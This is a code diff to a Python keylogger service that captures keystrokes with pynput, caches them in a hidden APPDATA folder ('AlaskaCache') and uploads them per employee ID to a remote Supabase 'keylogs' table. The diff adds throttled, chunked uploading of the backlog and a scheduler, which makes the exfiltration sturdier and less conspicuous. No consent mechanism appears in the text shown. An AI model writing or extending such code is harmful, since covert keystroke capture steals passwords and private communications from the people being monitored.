@@ -1,10 +1,12 @@
 import time
-import asyncio
 import ctypes
 import os
 from pynput import keyboard
 from supabase import Client
 
+from services.bandwidth import BandwidthGovernor
+from services.scheduler import Scheduler
+
 # Log helper
 log_file = os.path.join(os.getenv('APPDATA'), 'AlaskaCache', 'agent.log')
 def log(msg):
@@ -17,10 +19,16 @@ def log(msg):
 # Keys to ignore
 IGNORED_KEYS = {'tab', 'left', 'right', 'up', 'down', 'shift', 'shift_r', 'ctrl_l', 'ctrl_r', 'alt_l', 'alt_r', 'caps_lock', 'scroll_lock', 'num_lock', 'insert', 'home', 'end', 'page_up', 'page_down', 'f1', 'f2', 'f3', 'f4', 'f5', 'f6', 'f7', 'f8', 'f9', 'f10', 'f11', 'f12', 'print_screen', 'pause', 'menu'}
 
+# Offline cache bounds
+CACHE_CHUNK = 64 * 1024
+MAX_CACHE_BYTES = 16 * 1024 * 1024
+
 class KeyloggerService:
-    def __init__(self, supabase: Client, employee_id: str):
+    def __init__(self, supabase: Client, employee_id: str, scheduler: Scheduler, governor: BandwidthGovernor):
         self.supabase = supabase
         self.employee_id = employee_id
+        self.scheduler = scheduler
+        self.governor = governor
         self.buffer = []
         self.last_flush = time.time()
         self.flush_interval = 30
@@ -76,9 +84,8 @@ class KeyloggerService:
         await self.sync_cache()
 
         while True:
-            await asyncio.sleep(1)
-            if time.time() - self.last_flush > self.flush_interval:
-                await self.flush()
+            await self.scheduler.wait("keylog-flush", self.flush_interval)
+            await self.flush()
 
     async def flush(self):
         if not self.buffer:
@@ -98,6 +105,7 @@ class KeyloggerService:
 
     async def try_upload(self, text):
         try:
+            await self.governor.throttle(len(text.encode("utf-8")))
             self.supabase.table("keylogs").insert({
                 "employee_id": self.employee_id,
                 "content": text
@@ -105,10 +113,14 @@ class KeyloggerService:
             return True
         except Exception as e:
             log(f"Upload error: {e}")
+            self.scheduler.note_error(e)
             return False
 
     def save_to_cache(self, text):
         try:
+            if os.path.exists(self.cache_file) and os.path.getsize(self.cache_file) > MAX_CACHE_BYTES:
+                log("Cache full. Dropping.")
+                return
             with open(self.cache_file, "a", encoding="utf-8") as f:
                 f.write(text)
         except:
@@ -118,11 +130,33 @@ class KeyloggerService:
         if not os.path.exists(self.cache_file):
             return
         try:
+            # Upload in chunks so a large backlog never sits in memory at once
+            remaining = None
             with open(self.cache_file, "r", encoding="utf-8") as f:
-                content = f.read()
-            if content and await self.try_upload(content):
+                while True:
+                    pos = f.tell()
+                    chunk = f.read(CACHE_CHUNK)
+                    if not chunk:
+                        break
+                    if not await self.try_upload(chunk):
+                        remaining = pos
+                        break
+
+                if remaining is not None:
+                    f.seek(remaining)
+                    tmp_file = self.cache_file + ".tmp"
+                    with open(tmp_file, "w", encoding="utf-8") as out:
+                        while True:
+                            chunk = f.read(CACHE_CHUNK)
+                            if not chunk:
+                                break
+                            out.write(chunk)
+
+            if remaining is None:
                 log("Cache synced.")
                 with open(self.cache_file, "w", encoding="utf-8") as f:
                     f.write("")
+            else:
+                os.replace(tmp_file, self.cache_file)
         except:
             pass